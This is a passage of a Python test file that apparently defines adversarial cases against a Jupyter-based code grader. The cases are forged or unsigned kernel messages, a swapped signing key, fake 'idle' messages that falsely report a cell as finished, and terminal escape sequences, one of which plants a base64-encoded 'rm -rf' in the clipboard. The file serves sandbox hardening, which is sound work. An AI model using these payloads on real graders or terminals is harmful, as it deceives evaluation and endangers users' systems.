for content in (b"[" * 100_000, b"7", b"[]", b"null", b"{", b"", b"\\xff\\xfe", b"1" * 100_000):
    send(content)
""",
        error="BadMessage",
    ),
    Attack(
        "wrong signature",
        "sends raw bytes and unsigned messages over its own sockets",
        """
kernel = get_ipython().kernel
unsigned = [b"x", b"<IDS|MSG>", b"0" * 64, b"{}", b"{}", b"{}", b"{}"]
for frames in ([b"x"], unsigned, [b"<IDS|MSG>"] * 3, [b""] * 20):
    kernel.iopub_socket.send_multipart(frames)
""",
        error="BadMessage",
    ),
    Attack(
        "another key",
        "changes the key that its messages are signed with, so that all it says is refused",
        "get_ipython().kernel.session.key = b'mine'",
        error="CellTimeoutError KernelDied BadMessage",
        stalls=True,
    ),
    Attack(
        "says that it is done",
        "tells the grader that the cell has ended, and goes on",
        """
import threading
kernel, parent = get_ipython().kernel, get_ipython().kernel.get_parent()
for _ in range(5):
    kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=parent, ident=b"x")
time.sleep(0.3)
print("late")
""",
    ),
    Attack(
        "escape sequences",
        "writes sequences that clear, rename or reprogram a terminal, and makes names of them",
        """
print("\\x1b]0;owned\\x07\\x1b[2J\\x1b[8mhidden")
class Strange(Exception): pass
Strange.__name__ = Strange.__qualname__ = "\\x1b[2J\\x1b]52;c;cm0gLXJm\\x07"
raise Strange("\\x1b[2J")
""",
        error="\x1b[2J\x1b]52;c;cm0gLXJm\x07",
    ),
]

ATTACKS = [*FILES, *PROCESSES, *NETWORK, *SYSTEM, *BOMBS, *STALLS, *OUTPUT]

# What "weak" does not hold; docs/grading.md has the same names.
LIMITS_OF_WEAK = (
    "poisoned pickle",
    "command lines",
    "shared memory filler",
    "disk filler",
    "many small files",
    "zip bomb",
)
